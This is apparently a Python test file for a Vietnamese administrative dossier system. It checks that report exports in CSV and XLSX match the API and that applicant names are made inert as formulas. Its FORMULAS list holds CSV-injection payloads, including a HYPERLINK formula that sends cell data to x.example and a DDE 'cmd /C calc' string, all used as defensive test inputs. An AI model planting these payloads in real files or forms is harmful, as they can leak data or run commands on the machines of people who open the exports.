"""Reports for supervisors, black-box: report II.06a as CSV (RFC 4180,
UTF-8 with a BOM so Excel reads the marks) and as XLSX (title, merged group
headers, totals), holding the very numbers of the statistics API."""
import csv
import io
import re
import zipfile
import xml.etree.ElementTree as ET

import harness

PROC = "1.001193"
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def some_dossiers(s):
    rcv = s.login("tiepnhan.thucphan")
    for i in range(3):
        body = {"procedure": PROC, "applicant": {"name": "Người %d" % i, "id_number": "0041900077%02d" % i,
                                                 "phone": "09870007%02d" % i}, "documents": [4, 6], "outcome": "accept"}
        assert s.post("/api/v1/dossiers", body, token=rcv).status == 201
    body["outcome"] = "refuse"
    body["items"] = ["Không thuộc thẩm quyền"]
    assert s.post("/api/v1/dossiers", body, token=rcv).status == 201


def json_numbers(row):
    r = row
    return [r["received"]["total"], r["received"]["carried_over"], r["received"]["online"],
            r["received"]["direct_postal"], r["resolved"]["total"], r["resolved"]["early"], r["resolved"]["on_time"],
            r["resolved"]["late"], r["pending"]["total"], r["pending"]["on_time"], r["pending"]["overdue"], r["paused"]]


def test_csv_holds_the_api_numbers(s):
    some_dossiers(s)
    sup = s.login("giamsat")
    rep = s.get("/api/v1/stats/processing?unit=04", token=sup).json()
    r = s.get("/api/v1/stats/processing.csv?unit=04", token=sup)
    assert r.status == 200 and r.header("Content-Type") == "text/csv; charset=utf-8", r.headers
    assert "attachment" in r.header("Content-Disposition") and ".csv" in r.header("Content-Disposition")
    assert r.body.startswith(b"\xef\xbb\xbf"), "BOM for Excel"
    text = r.body[3:].decode("utf-8")
    assert "\r\n" in text and text.count("\n") == text.count("\r\n"), "CRLF line ends"
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Mã", "Đơn vị / nhóm", "Tổng số hồ sơ nhận"], rows[0]
    assert len(rows) == len(rep["rows"]) + 2, (len(rows), len(rep["rows"]))
    for line, want in zip(rows[1:-1], rep["rows"]):
        assert line[0] == want["key"] and [int(x) for x in line[2:]] == json_numbers(want), (line, want)
    assert rows[-1][1] == "Tổng cộng" and [int(x) for x in rows[-1][2:]] == json_numbers(rep["total"]), rows[-1]
    assert json_numbers(rep["total"])[0] >= 3, "the three accepted (a refused one is never received)"


def cells(xlsx):
    """{"A1": value} of the first sheet (shared strings resolved, numbers as int)."""
    z = zipfile.ZipFile(io.BytesIO(xlsx))
    shared = []
    if "xl/sharedStrings.xml" in z.namelist():
        for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
            shared.append("".join(t.text or "" for t in si.iter("{%s}t" % NS["m"])))
    sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    out = {}
    for c in sheet.iter("{%s}c" % NS["m"]):
        v = c.find("m:v", NS)
        if v is None:
            continue
        out[c.get("r")] = shared[int(v.text)] if c.get("t") == "s" else int(float(v.text))
    merged = [m.get("ref") for m in sheet.iter("{%s}mergeCell" % NS["m"])]
    return out, merged


def test_xlsx_holds_the_api_numbers(s):
    some_dossiers(s)
    sup = s.login("giamsat")
    rep = s.get("/api/v1/stats/processing?unit=04&group=procedure", token=sup).json()
    r = s.get("/api/v1/stats/processing.xlsx?unit=04&group=procedure", token=sup)
    assert r.status == 200 and r.header("Content-Type").endswith("spreadsheetml.sheet"), r.headers
    c, merged = cells(r.body)
    assert c["A1"].startswith("Biểu II.06a"), c.get("A1")
    assert "Tỉnh Cao Bằng" in c["A2"], c.get("A2")
    assert c["B4"] == "Số hồ sơ nhận" and c["F4"] == "Đã giải quyết" and c["J4"] == "Đang giải quyết", c
    assert {"A1:M1", "A4:A5", "B4:E4", "F4:I4", "J4:L4", "M4:M5"} <= set(merged), merged
    cols = "BCDEFGHIJKLM"
    for i, want in enumerate(rep["rows"]):
        row = 6 + i
        assert c["A%d" % row] == want["label"], (c.get("A%d" % row), want["label"])
        assert [c["%s%d" % (k, row)] for k in cols] == json_numbers(want), row
    last = 6 + len(rep["rows"])
    assert c["A%d" % last] == "Tổng cộng"
    assert [c["%s%d" % (k, last)] for k in cols] == json_numbers(rep["total"])
    assert harness  # the exports need a login like the report
    assert s.get("/api/v1/stats/processing.xlsx?unit=04").status == 401


def test_late_list(s):
    # Received Monday 2 March 2026 09:00, due Tuesday 3 March; on Friday 6 March at 10:00 it is 3 working days late.
    with harness.clock_server("2026-03-02T09:00:00+07:00") as s:
        rcv = s.login("tiepnhan.thucphan")
        body = {"procedure": PROC, "applicant": {"name": "Bế Văn Trễ", "id_number": "004190008888", "phone": "0987000888"},
                "documents": [4, 6], "outcome": "accept"}
        late = s.post("/api/v1/dossiers", body, token=rcv).json()["code"]
        s.clock.set("2026-03-06T10:00:00+07:00")
        fresh = s.post("/api/v1/dossiers", dict(body, applicant=dict(body["applicant"], name="Đúng Hạn")),
                       token=rcv).json()["code"]
        sup = s.login("giamsat")
        rep = s.get("/api/v1/reports/late?unit=04", token=sup).json()
        assert [(i["code"], i["late_days"]) for i in rep["items"]] == [(late, 3)], rep
        assert rep["items"][0]["due_at"] == "09:00 03/03/2026", rep["items"][0]  # one working day after 09:00
        assert rep["items"][0]["holder_unit"] == "Phường Thục Phán", rep["items"][0]
        assert fresh not in str(rep)
        r = s.get("/api/v1/reports/late.csv?unit=04", token=sup)
        rows = list(csv.reader(io.StringIO(r.body[3:].decode("utf-8"))))
        assert rows[0] == ["Mã hồ sơ", "Thủ tục", "Người nộp", "Đơn vị đang giữ", "Hẹn trả kết quả",
                           "Số ngày làm việc quá hạn", "Cán bộ đang giữ"], rows[0]
        assert rows[1][:3] == [late, "Thủ tục đăng ký khai sinh", "Bế Văn Trễ"] and rows[1][5] == "3", rows[1]
        c, _ = cells(s.get("/api/v1/reports/late.xlsx?unit=04", token=sup).body)
        assert c["A1"] == "Danh sách hồ sơ quá hạn" and c["A5"] == late and c["F5"] == 3 and c["C5"] == "Bế Văn Trễ", c


# Names a spreadsheet would run as formulas (OWASP "CSV injection"); a leading tab or CR may be trimmed
# by the API, which leaves a "=" in front all the same.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+84 912 (cmd)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd", "\t=1+1 tab", "\r=1+1 cr", "＝1+1 toàn khổ"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_late_exports_keep_formulas_inert(s):
    with harness.clock_server("2026-03-02T09:00:00+07:00") as s:
        rcv = s.login("tiepnhan.thucphan")
        codes = {}
        for i, name in enumerate(FORMULAS):
            body = {"procedure": PROC, "applicant": {"name": name, "id_number": "0041900099%02d" % i,
                                                     "phone": "09870009%02d" % i}, "documents": [4, 6],
                    "outcome": "accept"}
            r = s.post("/api/v1/dossiers", body, token=rcv)
            if name[0] in "\t\r" and r.status == 400:
                continue  # refused outright: it cannot reach an export
            assert r.status == 201, r
            codes[r.json()["code"]] = name
        assert len(codes) >= 5, codes
        s.clock.set("2026-03-06T10:00:00+07:00")
        sup = s.login("giamsat")
        rep = s.get("/api/v1/reports/late?unit=04", token=sup).json()
        stored = {i["code"]: i["applicant"] for i in rep["items"]}
        assert set(codes) <= set(stored), (codes, stored)
        for code, name in codes.items():
            assert stored[code] in (name, name.strip()), (stored[code], name)
            assert stored[code].startswith(TRIGGERS), stored[code]

        # CSV: every text cell inside double quotes, a formula behind a single quote; the count bare.
        body = s.get("/api/v1/reports/late.csv?unit=04", token=sup).body[3:].decode("utf-8")
        lines = body.split("\r\n")
        for code, name in codes.items():
            want = '"\'' + stored[code].replace('"', '""') + '"'
            line = next(ln for ln in lines if ln.startswith('"%s",' % code))
            assert ("," + want + ",") in line, (want, line)
        assert re.search(r',"[^"]*",3,', body), "the day count is a bare number"
        for row in csv.reader(io.StringIO(body, newline="")):
            for v in row:
                assert not v.startswith(TRIGGERS), ("a cell a spreadsheet would run", v, row)
        rows = {r[0]: r for r in csv.reader(io.StringIO(body, newline=""))}
        for code in codes:
            assert rows[code][2] == "'" + stored[code], rows[code]

        # XLSX: the names are string cells, with no formula anywhere in the sheet.
        x = s.get("/api/v1/reports/late.xlsx?unit=04", token=sup).body
        z = zipfile.ZipFile(io.BytesIO(x))
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml, "no formula cell"
        sheet = ET.fromstring(sheet_xml)
        c, _ = cells(x)
        kinds = {e.get("r"): e.get("t") for e in sheet.iter("{%s}c" % NS["m"])}
        found = {}
        for ref, v in c.items():
            if ref.startswith("A") and v in codes:
                found[v] = "C" + ref[1:]
        assert set(found) == set(codes), (found, codes)
        for code, ref in found.items():
            assert kinds[ref] in ("s", "inlineStr"), (ref, kinds[ref])  # a string, not "str" (a formula's result)
            assert c[ref] == stored[code], (c[ref], stored[code])


def test_processing_csv_quotes_every_text_cell(s):
    sup = s.login("giamsat")
    body = s.get("/api/v1/stats/processing.csv?unit=04&group=procedure", token=sup).body[3:].decode("utf-8")
    lines = body.split("\r\n")
    assert lines[-1] == "" and len(lines) > 3, lines
    assert re.fullmatch(r'"([^"]|"")*"(,"([^"]|"")*"){13}', lines[0]), lines[0]
    for line in lines[1:-1]:
        # two text cells, then twelve bare counts
        assert re.fullmatch(r'"([^"]|"")*","([^"]|"")*"(,-?[0-9]+){12}', line), line


def test_calendar_export_guards_and_reads_back(s):
    # The calendar's CSV is edited in a spreadsheet and imported again: the guard quote comes off on import.
    admin = s.login("admin")
    names = {"2027-03-10": "=1+1 (thử)", "2027-03-11": "'trích dẫn", "2027-03-12": "-Ngày \"thử\""}
    for day, name in names.items():
        r = s.request("PUT", "/api/v1/calendar/exceptions/" + day, {"kind": "off", "name": name,
                                                                    "source": "@nguồn"}, token=admin)
        assert r.status == 200, r
    out = harness.run_cli("calendar", "export", "-", db=s.db).stdout
    assert '"2027-03-10","off","\'=1+1 (thử)","\'@nguồn"' in out, out[-400:]
    assert '"2027-03-11","off","\'\'trích dẫn","\'@nguồn"' in out, out[-400:]
    assert '"2027-03-12","off","\'-Ngày ""thử""","\'@nguồn"' in out, out[-400:]
    for row in csv.reader(io.StringIO(out, newline="")):
        assert not any(v.startswith(TRIGGERS) for v in row), row
    for day in names:
        assert s.request("DELETE", "/api/v1/calendar/exceptions/" + day, token=admin).status == 200
    r = s.request("POST", "/api/v1/calendar/import", raw=out.encode("utf-8"), ctype="text/csv", token=admin)
    assert r.status == 200, r
    got = {h["date"]: (h["name"], h.get("source")) for h in s.get("/api/v1/calendar/holidays?year=2027").json()["days"]
           if h["date"] in names}
    assert got == {d: (n, "@nguồn") for d, n in names.items()}, got


if __name__ == "__main__":
    harness.main(globals())
